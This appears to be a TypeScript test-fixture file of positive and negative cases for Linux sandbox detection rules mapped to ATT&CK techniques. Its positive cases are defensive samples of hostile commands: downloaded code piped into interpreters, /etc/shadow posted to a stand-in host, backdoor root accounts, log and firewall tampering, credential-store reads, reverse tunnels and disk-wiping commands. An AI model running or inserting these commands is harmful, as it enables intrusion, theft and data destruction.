/**
 * Positive and negative cases for the rules of sandbox-profiles/rules/attack-coverage.yaml
 * (ATT&CK coverage, issue 12). Positives are the technique as Atomic Red Team / real malware
 * perform it (busybox applets through /proc/self/exe included); negatives are the nearest
 * ordinary thing an image does. Used by quarantine-rules.spec.ts, which checks every shipped rule.
 */
import type { EvalContext } from '../../../libs/analysis/src/state/context.js';
import { makeContext } from '../../../libs/analysis/src/rules/testing.js';
import { APT, ENTRYPOINT, connect, exec, open, openFailed, parent, sys, sysFd } from './rule-cases.js';

export interface RuleCase { rule: string; positive: EvalContext[]; negative: EvalContext[] }

const EP = ENTRYPOINT;
/** A busybox applet re-executed through /proc/self/exe: comm `exe`, argv[0] the applet. */
const applet = (cmd: string[], o: { parents?: typeof EP[] } = {}): EvalContext =>
  exec(cmd, { exe: '/proc/self/exe', name: 'exe', parents: o.parents ?? [EP] });

export const ATTACK_COVERAGE_CASES: RuleCase[] = [
  // --- execution -------------------------------------------------------------------------------
  {
    rule: 'Interpreter Fed Decoded or Downloaded Code',
    positive: [
      exec(['python3', '-c', 'import base64;exec(base64.b64decode("cHJpbnQoMSk="))'], { exe: '/usr/bin/python3' }),
      exec(['perl', '-e', 'use MIME::Base64;eval(decode_base64("cHJpbnQgMQ=="))'], { exe: '/usr/bin/perl' }),
      exec(['python3', '-c', 'import urllib.request as u;exec(u.urlopen("http://10.66.66.66/x").read())'], { exe: '/usr/bin/python3' }),
      exec(['php', '-r', 'eval(gzinflate(base64_decode("...")));'], { exe: '/usr/bin/php' }),
      exec(['node', '-e', 'require("child_process").exec(Buffer.from("aWQ=","base64").toString())'], { exe: '/usr/local/bin/node' }),
    ],
    negative: [
      exec(['python3', '-c', 'import urllib.request as u; u.urlopen("http://localhost:8000/health")'], { exe: '/usr/bin/python3', parents: [EP] }),
      exec(['node', '-e', 'require("http").get("http://localhost:3000", r => process.exit(r.statusCode === 200 ? 0 : 1))'], { exe: '/usr/local/bin/node' }),
      exec(['python3', '-c', 'import base64,sys; print(base64.b64encode(sys.stdin.buffer.read()).decode())'], { exe: '/usr/bin/python3' }),
      exec(['python3', '-m', 'gunicorn', 'app:app'], { exe: '/usr/bin/python3' }),
    ],
  },
  {
    rule: 'Downloaded Code Piped or Substituted into an Interpreter',
    positive: [
      exec(['sh', '-c', 'curl -fsSL http://10.66.66.66/a.py | python3 -'], { exe: '/bin/sh' }),
      exec(['sh', '-c', 'wget -qO- http://10.66.66.66/x.pl | perl'], { exe: '/bin/sh' }),
      exec(['bash', '-c', 'bash -c "$(curl -fsSL http://10.66.66.66/i.sh)"'], { exe: '/bin/bash' }),
      exec(['sh', '-c', 'eval "$(wget -qO- http://10.66.66.66/s)"'], { exe: '/bin/sh' }),
    ],
    negative: [
      exec(['sh', '-c', 'curl -fsS http://localhost:8080/health || exit 1'], { exe: '/bin/sh' }),
      exec(['sh', '-c', 'curl -o /tmp/app.tgz http://10.66.66.66/app.tgz && tar -xzf /tmp/app.tgz -C /opt'], { exe: '/bin/sh' }),
      exec(['sh', '-c', 'python3 -m pip --version | head -1'], { exe: '/bin/sh' }),
    ],
  },
  {
    rule: 'Scheduled Task Created With a Tool',
    positive: [
      exec(['at', 'now', '+', '1', 'minute'], { exe: '/usr/bin/at', parents: [parent('sh', ['-c', 'echo /tmp/x | at now + 1 minute'])] }),
      exec(['crontab', '/tmp/cron.txt'], { exe: '/usr/bin/crontab', parents: [EP] }),
      applet(['crontab', '-'], { parents: [EP] }),
      exec(['systemd-run', '--on-calendar=hourly', '/tmp/x'], { exe: '/usr/bin/systemd-run', parents: [EP] }),
    ],
    negative: [
      exec(['crontab', '-l'], { exe: '/usr/bin/crontab', parents: [EP] }),
      exec(['crontab', '-u', 'app', '-l'], { exe: '/usr/bin/crontab', parents: [EP] }),
      exec(['at', '-l'], { exe: '/usr/bin/at', parents: [EP] }),
      // the cron service image's own entrypoint installing its table
      exec(['crontab', '-u', 'app', '/etc/app/crontab'], { exe: '/usr/bin/crontab', parents: [parent('sh', ['/usr/local/bin/docker-entrypoint.sh', 'cron', '-f'])] }),
    ],
  },
  {
    rule: 'Code Compiled at Run Time',
    positive: [
      exec(['gcc', '-o', '/tmp/x', '/tmp/x.c'], { exe: '/usr/bin/gcc', parents: [EP] }),
      exec(['tcc', '-run', '/dev/shm/k.c'], { exe: '/usr/bin/tcc', parents: [EP] }),
    ],
    negative: [
      exec(['gcc', '-O2', '-c', 'binding.cc'], { exe: '/usr/bin/gcc', parents: [parent('make', []), parent('npm', ['ci'], '/usr/local/bin/node'), EP] }),
      exec(['cc', '-shared', '-o', 'ext.so', 'ext.c'], { exe: '/usr/bin/cc', parents: [parent('pip', ['install', 'x'], '/usr/local/bin/python3'), EP] }),
      exec(['g++', '--version'], { exe: '/usr/bin/g++', parents: [APT] }),
    ],
  },
  // --- persistence -----------------------------------------------------------------------------
  {
    rule: 'Persistence File Replaced by Rename or Link',
    positive: [
      sys('rename', { oldpath: '/tmp/p', newpath: '/etc/profile.d/zz.sh' }),
      sys('rename', { oldpath: '/tmp/rc', newpath: '/root/.bashrc' }),
      sys('symlink', { target: '/tmp/evil.service', linkpath: '/etc/systemd/system/multi-user.target.wants/evil.service' }),
      sys('rename', { oldpath: '/tmp/s', newpath: '/etc/sudoers.d/99-x' }),
      sys('link', { oldpath: '/tmp/u', newpath: '/etc/udev/rules.d/99-x.rules' }),
    ],
    negative: [
      sys('rename', { oldpath: '/etc/nginx/conf.d/sedX', newpath: '/etc/nginx/conf.d/default.conf' }),
      sys('rename', { oldpath: '/etc/profile.d/x.sh.dpkg-new', newpath: '/etc/profile.d/x.sh' }, { exe: '/usr/bin/dpkg', parents: [APT] }),
      sys('rename', { oldpath: '/tmp/a', newpath: '/tmp/.bashrc.bak' }),
    ],
  },
  {
    rule: 'PAM Configuration or Module Modified',
    positive: [
      open('/etc/pam.d/common-auth', 'O_WRONLY|O_TRUNC', { exe: '/bin/sh' }),
      open('/lib/x86_64-linux-gnu/security/pam_unix.so', 'O_WRONLY|O_TRUNC', { exe: '/bin/cp' }),
      openFailed('/etc/pam.d/sshd', 'O_WRONLY|O_APPEND', 'EACCES', 13, { exe: '/bin/sh', uid: 1000 }),
    ],
    negative: [
      open('/etc/pam.d/common-auth', 'O_RDONLY', { exe: '/usr/sbin/sshd' }),
      open('/etc/pam.d/common-session', 'O_WRONLY|O_CREAT|O_TRUNC', { exe: '/usr/sbin/pam-auth-update', parents: [parent('dpkg', ['--configure', '-a'], '/usr/bin/dpkg'), APT] }),
    ],
  },
  {
    rule: 'Udev Rule Written',
    positive: [open('/etc/udev/rules.d/75-persist.rules', 'O_WRONLY|O_CREAT|O_TRUNC', { exe: '/bin/sh' }, '0644')],
    negative: [open('/etc/udev/rules.d/75-persist.rules', 'O_RDONLY', { exe: '/bin/cat' }), open('/lib/udev/rules.d/60-x.rules', 'O_WRONLY|O_CREAT', { exe: '/usr/bin/dpkg', parents: [APT] })],
  },
  {
    rule: 'Service Enabled or Created With a Tool',
    positive: [
      exec(['systemctl', 'enable', 'evil.service'], { exe: '/usr/bin/systemctl', parents: [EP] }),
      exec(['update-rc.d', 'backdoor', 'defaults'], { exe: '/usr/sbin/update-rc.d', parents: [EP] }),
    ],
    negative: [
      exec(['systemctl', 'status', 'nginx'], { exe: '/usr/bin/systemctl', parents: [EP] }),
      exec(['update-rc.d', 'nginx', 'defaults'], { exe: '/usr/sbin/update-rc.d', parents: [parent('sh', ['/var/lib/dpkg/info/nginx.postinst']), parent('dpkg', ['--configure'], '/usr/bin/dpkg'), APT] }),
    ],
  },
  {
    rule: 'Privileged or Backdoor Account Created',
    positive: [
      exec(['useradd', '-o', '-u', '0', '-g', '0', '-M', 'sysadm'], { exe: '/usr/sbin/useradd', parents: [EP] }),
      exec(['usermod', '-aG', 'sudo', 'app'], { exe: '/usr/sbin/usermod', parents: [EP] }),
      exec(['useradd', '-G', 'wheel,docker', '-m', 'evil'], { exe: '/usr/sbin/useradd', parents: [EP] }),
      applet(['adduser', 'evil', 'wheel']),
      exec(['useradd', '-p', '$6$abc$xyz', 'evil'], { exe: '/usr/sbin/useradd', parents: [EP] }),
    ],
    negative: [
      exec(['useradd', '--uid', '1000', '--gid', 'app', '--home-dir', '/var/lib/app', '--no-create-home', '--shell', '/usr/sbin/nologin', 'app'], { exe: '/usr/sbin/useradd', parents: [EP] }),
      exec(['groupadd', '--gid', '1000', 'app'], { exe: '/usr/sbin/groupadd', parents: [EP] }),
      exec(['groupadd', '-r', '-g', '999', 'redis'], { exe: '/usr/sbin/groupadd', parents: [EP] }),
      exec(['useradd', '-r', '-g', 'redis', '-u', '999', 'redis'], { exe: '/usr/sbin/useradd', parents: [EP] }),
      applet(['adduser', '-D', '-u', '1000', 'app']),
      applet(['addgroup', '-S', 'app']),
    ],
  },
  {
    rule: 'Account Password Set Non-Interactively',
    positive: [
      exec(['chpasswd'], { exe: '/usr/sbin/chpasswd', parents: [parent('sh', ['-c', 'echo root:toor | chpasswd'])] }),
      exec(['passwd', '--stdin', 'root'], { exe: '/usr/bin/passwd', parents: [EP] }),
      applet(['passwd', 'root']),
    ],
    negative: [
      exec(['passwd', '-l', 'root'], { exe: '/usr/bin/passwd', parents: [EP] }),
      exec(['passwd', '-d', 'app'], { exe: '/usr/bin/passwd', parents: [EP] }),
      exec(['passwd', 'root'], { exe: '/usr/bin/passwd', tty: 34816, parents: [EP] }),
    ],
  },
  // --- privilege escalation ----------------------------------------------------------------------
  {
    rule: 'File Capabilities Set',
    positive: [
      exec(['setcap', 'cap_setuid+ep', '/usr/bin/python3.11'], { exe: '/usr/sbin/setcap', parents: [EP] }),
      sys('setxattr', { path: '/tmp/x', name: 'security.capability', size: 20, flags: 0 }),
    ],
    negative: [
      exec(['setcap', '-v', 'cap_net_bind_service+ep', '/usr/sbin/nginx'], { exe: '/usr/sbin/setcap', parents: [EP] }),
      sys('setxattr', { path: '/data/x', name: 'user.mime_type', size: 10, flags: 0 }),
      exec(['getcap', '/usr/bin/ping'], { exe: '/usr/sbin/getcap', parents: [EP] }),
    ],
  },
  {
    rule: 'Sudo Timestamp Tampered',
    positive: [
      open('/run/sudo/ts/app', 'O_WRONLY|O_CREAT', { exe: '/tmp/x' }, '0600'),
      sys('unlink', { path: '/var/run/sudo/ts/root' }, { exe: '/bin/rm' }),
    ],
    negative: [
      open('/run/sudo/ts/app', 'O_RDWR|O_CREAT', { exe: '/usr/bin/sudo' }, '0600'),
      open('/run/sudo/ts/app', 'O_RDONLY', { exe: '/bin/cat' }),
    ],
  },
  {
    rule: 'Setuid Binary Enumeration',
    positive: [
      exec(['find', '/', '-perm', '-4000', '-type', 'f'], { exe: '/usr/bin/find', parents: [EP] }),
      applet(['find', '/', '-perm', '-u=s']),
      exec(['getcap', '-r', '/'], { exe: '/usr/sbin/getcap', parents: [EP] }),
    ],
    negative: [
      exec(['find', '/var/lib/app', '!', '-user', 'app', '-exec', 'chown', 'app', '{}', '+'], { exe: '/usr/bin/find', parents: [EP] }),
      exec(['find', '/tmp', '-perm', '-0002', '-type', 'f', '-delete'], { exe: '/usr/bin/find', parents: [EP] }),
    ],
  },
  {
    rule: 'Chroot or Namespace Tool Used',
    positive: [
      sys('chroot', { path: '/host' }, { exe: '/tmp/x' }),
      exec(['unshare', '-r', '/bin/sh'], { exe: '/usr/bin/unshare', parents: [EP] }),
      applet(['chroot', '/mnt', 'sh']),
    ],
    negative: [
      sys('chroot', { path: '/var/lib/dpkg/tmp' }, { exe: '/usr/bin/dpkg', parents: [APT] }),
      exec(['unshare'], { exe: '/usr/bin/unshare', parents: [EP] }),
      sys('chdir', { path: '/host' }),
    ],
  },
  // --- defence evasion -------------------------------------------------------------------------
  {
    rule: 'Library Preloaded Into an Executed Program',
    positive: [
      exec(['sshd'], { exe: '/usr/sbin/sshd', env: ['PATH=/usr/bin', 'LD_PRELOAD=/tmp/.x/libhook.so'] }),
      exec(['ls'], { exe: '/bin/ls', env: ['LD_PRELOAD=/dev/shm/r.so'] }),
      exec(['id'], { exe: '/usr/bin/id', env: ['LD_PRELOAD=./evil.so'] }),
      exec(['id'], { exe: '/usr/bin/id', env: ['LD_AUDIT=/var/tmp/a.so'] }),
    ],
    negative: [
      exec(['redis-server'], { exe: '/usr/bin/redis-server', env: ['LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2'] }),
      exec(['postgres'], { exe: '/usr/lib/postgresql/15/bin/postgres', env: ['LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libnss_wrapper.so', 'NSS_WRAPPER_PASSWD=/tmp/tmp.x'] }),
      exec(['id'], { exe: '/usr/bin/id', env: ['PATH=/usr/bin', 'LD_LIBRARY_PATH=/opt/app/lib'] }),
      exec(['ruby'], { exe: '/usr/bin/ruby', env: ['LD_PRELOAD=/usr/lib/libfoo.so'] }),
    ],
  },
  {
    rule: 'Logs Cleared With a Tool',
    positive: [
      exec(['journalctl', '--vacuum-time=1s'], { exe: '/usr/bin/journalctl', parents: [EP] }),
      applet(['dmesg', '-C']),
      exec(['truncate', '-s', '0', '/var/log/auth.log'], { exe: '/usr/bin/truncate', parents: [EP] }),
      exec(['rm', '-f', '/var/log/wtmp', '/var/log/btmp'], { exe: '/bin/rm', parents: [EP] }),
    ],
    negative: [
      exec(['journalctl', '-u', 'app', '--no-pager'], { exe: '/usr/bin/journalctl', parents: [EP] }),
      exec(['dmesg'], { exe: '/bin/dmesg', parents: [EP] }),
      exec(['rm', '-f', '/var/run/app.pid'], { exe: '/bin/rm', parents: [EP] }),
      exec(['rm', '-f', '/var/log/nginx/error.log.1'], { exe: '/bin/rm', parents: [parent('logrotate', ['/etc/logrotate.conf'], '/usr/sbin/logrotate')] }),
    ],
  },
  {
    rule: 'Timestamps Forged',
    positive: [
      exec(['touch', '-r', '/bin/ls', '/usr/bin/.x'], { exe: '/usr/bin/touch', parents: [EP] }),
      applet(['touch', '-d', '2019-01-01 00:00', '/tmp/k']),
      exec(['touch', '-t', '201901010000', '/etc/cron.d/x'], { exe: '/usr/bin/touch', parents: [EP] }),
    ],
    negative: [
      exec(['touch', '/var/run/app.ready'], { exe: '/usr/bin/touch', parents: [EP] }),
      exec(['touch', '-c', '/tmp/healthy'], { exe: '/usr/bin/touch', parents: [EP] }),
    ],
  },
  {
    rule: 'Hidden Directory Created in a Shared Location',
    positive: [
      sys('mkdir', { path: '/tmp/...', mode: '0755' }),
      sys('mkdir', { path: '/dev/shm/.x', mode: '0700' }),
      sys('mkdir', { path: '/var/tmp/. ', mode: '0755' }),
      open('/dev/shm/.k', 'O_WRONLY|O_CREAT', { exe: '/bin/sh' }, '0755'),
    ],
    negative: [
      sys('mkdir', { path: '/tmp/.X11-unix', mode: '01777' }),
      sys('mkdir', { path: '/tmp/app-cache', mode: '0755' }),
      sys('mkdir', { path: '/tmp/.x', mode: '0755' }, {}, 'EEXIST', -17),
      open('/dev/shm/PostgreSQL.1804289383', 'O_RDWR|O_CREAT|O_EXCL|O_NOFOLLOW|O_CLOEXEC', { exe: '/usr/lib/postgresql/15/bin/postgres' }, '0600'),
    ],
  },
  {
    rule: 'Program Masquerading as a System Daemon',
    positive: [
      exec(['/var/tmp/sshd'], { exe: '/var/tmp/sshd', parents: [EP] }),
      exec(['/opt/.cache/kworker'], { exe: '/opt/.cache/kworker', parents: [EP] }),
      // `exec -a systemd-journald /root/payload`: argv[0] (proc.exe) is the daemon's name, the file is not
      makeContext({ event: { type: 'execve', res: 0, rawres: 0, args: { filename: '/root/payload', args: '' } }, proc: { name: 'payload', exe: 'systemd-journald', exepath: '/root/payload', args: ['systemd-journald'] }, ancestors: [EP] }),
    ],
    negative: [
      exec(['/usr/sbin/sshd', '-D'], { exe: '/usr/sbin/sshd', parents: [EP] }),
      exec(['/usr/sbin/cron', '-f'], { exe: '/usr/sbin/cron', parents: [EP] }),
      exec(['/lib/systemd/systemd'], { exe: '/lib/systemd/systemd' }),
      exec(['/init'], { exe: '/init' }),
      applet(['crond', '-f']),
    ],
  },
  {
    rule: 'Security or Logging Service Disabled',
    positive: [
      exec(['auditctl', '-e', '0'], { exe: '/sbin/auditctl', parents: [EP] }),
      exec(['setenforce', '0'], { exe: '/usr/sbin/setenforce', parents: [EP] }),
      exec(['systemctl', 'stop', 'rsyslog'], { exe: '/usr/bin/systemctl', parents: [EP] }),
      exec(['service', 'auditd', 'stop'], { exe: '/usr/sbin/service', parents: [EP] }),
      exec(['aa-teardown'], { exe: '/usr/sbin/aa-teardown', parents: [EP] }),
      openFailed('/sys/fs/selinux/enforce', 'O_WRONLY', 'EROFS', 30),
    ],
    negative: [
      exec(['auditctl', '-l'], { exe: '/sbin/auditctl', parents: [EP] }),
      exec(['systemctl', 'stop', 'nginx'], { exe: '/usr/bin/systemctl', parents: [EP] }),
      exec(['getenforce'], { exe: '/usr/sbin/getenforce', parents: [EP] }),
      open('/etc/rsyslog.d/50-app.conf', 'O_WRONLY|O_CREAT|O_TRUNC', { exe: '/bin/sh', parents: [EP] }),
    ],
  },
  {
    rule: 'Firewall Rules Changed',
    positive: [
      exec(['iptables', '-F'], { exe: '/usr/sbin/iptables', parents: [EP] }),
      exec(['iptables', '-P', 'INPUT', 'ACCEPT'], { exe: '/usr/sbin/iptables', parents: [EP] }),
      exec(['ufw', 'disable'], { exe: '/usr/sbin/ufw', parents: [EP] }),
      exec(['nft', 'flush', 'ruleset'], { exe: '/usr/sbin/nft', parents: [EP] }),
    ],
    negative: [
      exec(['iptables', '-L', '-n'], { exe: '/usr/sbin/iptables', parents: [EP] }),
      exec(['nft', 'list', 'ruleset'], { exe: '/usr/sbin/nft', parents: [EP] }),
      exec(['ufw', 'status'], { exe: '/usr/sbin/ufw', parents: [EP] }),
    ],
  },
  {
    rule: 'ASLR or Kernel Protection Disabled',
    positive: [
      openFailed('/proc/sys/kernel/randomize_va_space', 'O_WRONLY|O_TRUNC', 'EROFS', 30),
      exec(['sysctl', '-w', 'kernel.randomize_va_space=0'], { exe: '/sbin/sysctl', parents: [EP] }),
      exec(['setarch', 'x86_64', '-R', '/tmp/exploit'], { exe: '/usr/bin/setarch', parents: [EP] }),
    ],
    negative: [
      open('/proc/sys/kernel/randomize_va_space', 'O_RDONLY', { exe: '/bin/cat' }),
      exec(['sysctl', '-n', 'net.core.somaxconn'], { exe: '/sbin/sysctl', parents: [EP] }),
      exec(['setarch', 'x86_64', '/bin/true'], { exe: '/usr/bin/setarch', parents: [EP] }),
    ],
  },
  // --- credential access -----------------------------------------------------------------------
  {
    rule: 'Browser or Tool Credential Store Read',
    positive: [
      open('/root/.config/google-chrome/Default/Login Data', 'O_RDONLY', { exe: '/usr/bin/python3' }),
      open('/home/u/.mozilla/firefox/abc.default/logins.json', 'O_RDONLY', { exe: '/bin/cat' }),
      open('/root/.pgpass', 'O_RDONLY', { exe: '/bin/cat' }),
      open('/home/u/.bitcoin/wallet.dat', 'O_RDONLY', { exe: '/tmp/stealer' }),
      open('/root/.npmrc', 'O_RDONLY', { exe: '/usr/bin/curl' }),
    ],
    negative: [
      open('/root/.pgpass', 'O_RDONLY', { exe: '/usr/lib/postgresql/15/bin/psql', name: 'psql' }),
      open('/root/.npmrc', 'O_RDONLY', { exe: '/usr/local/bin/node', name: 'node' }),
      open('/root/.my.cnf', 'O_RDONLY', { exe: '/usr/sbin/mariadbd', name: 'mariadbd' }),
      openFailed('/root/.pgpass', 'O_RDONLY', 'ENOENT', 2, { exe: '/bin/cat' }),
    ],
  },
  {
    rule: 'Input Device Read for Keylogging',
    positive: [
      open('/dev/input/event0', 'O_RDONLY', { exe: '/tmp/k' }),
      openFailed('/dev/input/event2', 'O_RDONLY', 'ENOENT', 2, { exe: '/tmp/k' }),
      exec(['logkeys', '--start'], { exe: '/usr/bin/logkeys', parents: [EP] }),
    ],
    negative: [open('/dev/tty', 'O_RDWR', { exe: '/bin/sh' }), open('/dev/null', 'O_RDONLY', { exe: '/bin/sh' })],
  },
  {
    rule: 'Password Cracker or Brute-Force Tool Launched',
    positive: [
      exec(['john', '--wordlist=/tmp/w', '/tmp/h'], { exe: '/usr/sbin/john', parents: [EP] }),
      exec(['hydra', '-l', 'root', '-P', 'rockyou.txt', 'ssh://10.66.66.66'], { exe: '/usr/bin/hydra', parents: [EP] }),
      exec(['sshpass', '-p', 'toor', 'ssh', 'root@10.66.66.66'], { exe: '/usr/bin/sshpass', parents: [EP] }),
    ],
    negative: [exec(['ssh-keygen', '-A'], { exe: '/usr/bin/ssh-keygen', parents: [EP] }), exec(['htpasswd', '-bc', '/etc/nginx/.htpasswd', 'u', 'p'], { exe: '/usr/bin/htpasswd' })],
  },
  {
    rule: 'Password Search in Files',
    positive: [
      exec(['grep', '-ri', 'password', '/etc', '/home'], { exe: '/bin/grep', parents: [EP] }),
      applet(['grep', '-R', 'secret', '/var/www']),
      exec(['rg', '-i', 'api_key', '/'], { exe: '/usr/bin/rg', parents: [EP] }),
    ],
    negative: [
      exec(['grep', '-q', '^password', '/etc/app/app.conf'], { exe: '/bin/grep', parents: [EP] }),
      exec(['grep', '-r', 'listen', '/etc/nginx'], { exe: '/bin/grep', parents: [EP] }),
    ],
  },
  {
    rule: 'Process Environment or Memory Dumped by a Tool',
    positive: [
      exec(['cat', '/proc/1/environ'], { exe: '/bin/cat', parents: [EP] }),
      applet(['strings', '/proc/412/mem']),
      exec(['sh', '/tmp/mimipenguin.sh'], { exe: '/bin/sh', parents: [EP] }),
    ],
    negative: [
      exec(['cat', '/proc/self/status'], { exe: '/bin/cat', parents: [EP] }),
      exec(['cat', '/proc/1/cmdline'], { exe: '/bin/cat', parents: [EP] }),
    ],
  },
  // --- collection and exfiltration ---------------------------------------------------------------
  {
    rule: 'Sensitive Data Archived or Encrypted',
    positive: [
      exec(['tar', '-czf', '/tmp/.d.tgz', '/etc', '/root/.ssh'], { exe: '/bin/tar', parents: [EP] }),
      exec(['tar', 'czf', '/tmp/h.tgz', '/home'], { exe: '/bin/tar', parents: [EP] }),
      exec(['zip', '-r', '/tmp/x.zip', '/root/.aws'], { exe: '/usr/bin/zip', parents: [EP] }),
      exec(['gpg', '-c', '--batch', '--passphrase', 'x', '/etc/shadow'], { exe: '/usr/bin/gpg', parents: [EP] }),
    ],
    negative: [
      exec(['tar', '-xzf', '/tmp/app.tgz', '-C', '/etc/app'], { exe: '/bin/tar', parents: [EP] }),
      exec(['tar', '-czf', '/tmp/logs.tgz', '/var/log/app'], { exe: '/bin/tar', parents: [EP] }),
      exec(['7z', 'x', '/tmp/a.7z', '-o/etc/app'], { exe: '/usr/bin/7z', parents: [EP] }),
    ],
  },
  {
    rule: 'Data Sent With a Transfer Tool',
    positive: [
      exec(['curl', '-T', '/tmp/.d.tgz', 'ftp://10.66.66.66/'], { exe: '/usr/bin/curl', parents: [EP] }),
      exec(['curl', '-F', 'f=@/etc/passwd', 'http://10.66.66.66/u'], { exe: '/usr/bin/curl', parents: [EP] }),
      exec(['wget', '--post-file=/etc/shadow', 'http://10.66.66.66/'], { exe: '/usr/bin/wget', parents: [EP] }),
      applet(['tftp', '-p', '-l', '/tmp/x', '10.66.66.66']),
      exec(['scp', '/tmp/x', 'root@10.66.66.66:/tmp/'], { exe: '/usr/bin/scp', parents: [EP] }),
      exec(['ping', '-c', '1', '-p', 'deadbeef', '10.66.66.66'], { exe: '/bin/ping', parents: [EP] }),
    ],
    negative: [
      exec(['curl', '-fsS', 'http://localhost:8080/health'], { exe: '/usr/bin/curl', parents: [EP] }),
      exec(['curl', '-o', '/tmp/x', 'https://10.66.66.66/x'], { exe: '/usr/bin/curl', parents: [EP] }),
      exec(['ping', '-c', '1', 'db'], { exe: '/bin/ping', parents: [EP] }),
      exec(['rsync', '-a', '/src/', '/dst/'], { exe: '/usr/bin/rsync', parents: [EP] }),
    ],
  },
  // --- command and control ---------------------------------------------------------------------
  {
    rule: 'Connection to a Backdoor or Proxy Port',
    positive: [connect('10.66.66.66', 4444, { exe: '/tmp/x' }), connect('10.66.66.66', 6667, { exe: '/tmp/x' }), connect('10.66.66.66', 9050, { exe: '/tmp/x' })],
    negative: [connect('10.66.66.66', 5432, { exe: '/app/server' }), connect('10.66.66.66', 443, { exe: '/app/server' }), connect('127.0.0.1', 4444, { exe: '/app/server' })],
  },
  {
    rule: 'Tunnelling or Proxy Tool Launched',
    positive: [
      exec(['chisel', 'client', '10.66.66.66:8000', 'R:socks'], { exe: '/tmp/chisel', parents: [EP] }),
      exec(['ssh', '-N', '-R', '2222:localhost:22', 'u@10.66.66.66'], { exe: '/usr/bin/ssh', parents: [EP] }),
      exec(['ssh', '-fND', '1080', 'u@10.66.66.66'], { exe: '/usr/bin/ssh', parents: [EP] }),
      exec(['socat', 'TCP-LISTEN:8080,fork', 'TCP:10.66.66.66:80'], { exe: '/usr/bin/socat', parents: [EP] }),
    ],
    negative: [
      exec(['ssh', '-o', 'BatchMode=yes', 'git@10.66.66.66', 'info'], { exe: '/usr/bin/ssh', parents: [EP] }),
      exec(['socat', 'UNIX-LISTEN:/tmp/s,fork', 'STDOUT'], { exe: '/usr/bin/socat', parents: [EP] }),
    ],
  },
  {
    rule: 'Raw ICMP Socket Created',
    positive: [sysFd('socket', { domain: 'AF_INET', type: 'SOCK_RAW', proto: 'IPPROTO_ICMP' }, { num: 3, type: 'ipv4', name: '' }, { exe: '/tmp/icmpsh' }, 3, 3)],
    negative: [
      sysFd('socket', { domain: 'AF_INET', type: 'SOCK_RAW', proto: 'IPPROTO_ICMP' }, { num: 3, type: 'ipv4', name: '' }, { exe: '/bin/ping' }, 3, 3),
      sysFd('socket', { domain: 'AF_INET', type: 'SOCK_DGRAM', proto: 'IPPROTO_UDP' }, { num: 3, type: 'ipv4', name: '' }, { exe: '/tmp/x' }, 3, 3),
    ],
  },
  // --- impact ----------------------------------------------------------------------------------
  {
    rule: 'File Renamed With a Ransomware Extension',
    positive: [
      sys('rename', { oldpath: '/data/db.sqlite', newpath: '/data/db.sqlite.encrypted' }),
      sys('renameat2', { olddirfd: -100, oldpath: '/srv/a.doc', newdirfd: -100, newpath: '/srv/a.doc.locked', flags: 0 }),
      open('/srv/HOW_TO_DECRYPT.txt', 'O_WRONLY|O_CREAT|O_TRUNC', { exe: '/tmp/r' }),
    ],
    negative: [
      sys('rename', { oldpath: '/data/db.sqlite-journal', newpath: '/data/db.sqlite' }),
      sys('rename', { oldpath: '/data/a.enc.tmp', newpath: '/data/a.json' }),
      open('/usr/lib/python3/dist-packages/Crypto/decrypt.txt', 'O_WRONLY|O_CREAT', { exe: '/usr/bin/dpkg', parents: [APT] }),
    ],
  },
  {
    rule: 'Files Encrypted With a Tool',
    positive: [
      exec(['openssl', 'enc', '-aes-256-cbc', '-salt', '-in', '/data/a', '-out', '/data/a.enc', '-k', 'x'], { exe: '/usr/bin/openssl', parents: [EP] }),
      exec(['gpg', '--batch', '--symmetric', '--passphrase', 'x', '/data/a'], { exe: '/usr/bin/gpg', parents: [EP] }),
      exec(['7z', 'a', '-pSECRET', '/tmp/d.7z', '/data'], { exe: '/usr/bin/7z', parents: [EP] }),
    ],
    negative: [
      exec(['openssl', 'enc', '-d', '-aes-256-cbc', '-in', '/app/cfg.enc'], { exe: '/usr/bin/openssl', parents: [EP] }),
      exec(['openssl', 'req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', '/etc/ssl/k.pem'], { exe: '/usr/bin/openssl', parents: [EP] }),
      exec(['openssl', 'enc', '-base64', '-in', '/app/a'], { exe: '/usr/bin/openssl', parents: [EP] }),
    ],
  },
  {
    rule: 'Data Wiped or Disk Destroyed',
    positive: [
      exec(['shred', '-uz', '/root/.bash_history'], { exe: '/usr/bin/shred', parents: [EP] }),
      exec(['dd', 'if=/dev/zero', 'of=/dev/sda', 'bs=1M'], { exe: '/bin/dd', parents: [EP] }),
      exec(['rm', '-rf', '--no-preserve-root', '/'], { exe: '/bin/rm', parents: [EP] }),
      applet(['rm', '-rf', '/etc']),
      exec(['mkfs.ext4', '/dev/vdb'], { exe: '/sbin/mkfs.ext4', parents: [EP] }),
    ],
    negative: [
      exec(['rm', '-rf', '/var/lib/apt/lists/'], { exe: '/bin/rm', parents: [EP] }),
      exec(['rm', '-rf', '/tmp/build'], { exe: '/bin/rm', parents: [EP] }),
      exec(['dd', 'if=/dev/urandom', 'of=/tmp/key', 'bs=32', 'count=1'], { exe: '/bin/dd', parents: [EP] }),
      exec(['find', '/tmp', '-type', 'f', '-mtime', '+7', '-delete'], { exe: '/usr/bin/find', parents: [EP] }),
    ],
  },
  {
    rule: 'Service Stopped or Agent Killed by Name',
    positive: [
      exec(['pkill', '-f', 'xmrig'], { exe: '/usr/bin/pkill', parents: [EP] }),
      exec(['killall', '-9', 'AliYunDun'], { exe: '/usr/bin/killall', parents: [EP] }),
      exec(['systemctl', 'stop', 'falco'], { exe: '/usr/bin/systemctl', parents: [EP] }),
      applet(['killall', 'rsyslogd']),
    ],
    negative: [
      exec(['pkill', '-HUP', 'nginx'], { exe: '/usr/bin/pkill', parents: [EP] }),
      exec(['kill', '-TERM', '42'], { exe: '/bin/kill', parents: [EP] }),
      exec(['service', 'nginx', 'reload'], { exe: '/usr/sbin/service', parents: [EP] }),
    ],
  },
  {
    rule: 'System Shutdown or Reboot Attempt',
    positive: [
      exec(['reboot', '-f'], { exe: '/sbin/reboot', parents: [EP] }),
      sys('reboot', { magic1: 'LINUX_REBOOT_MAGIC1', cmd: 'LINUX_REBOOT_CMD_RESTART' }, { exe: '/tmp/x' }, 'EPERM', -1),
      exec(['systemctl', 'poweroff'], { exe: '/usr/bin/systemctl', parents: [EP] }),
    ],
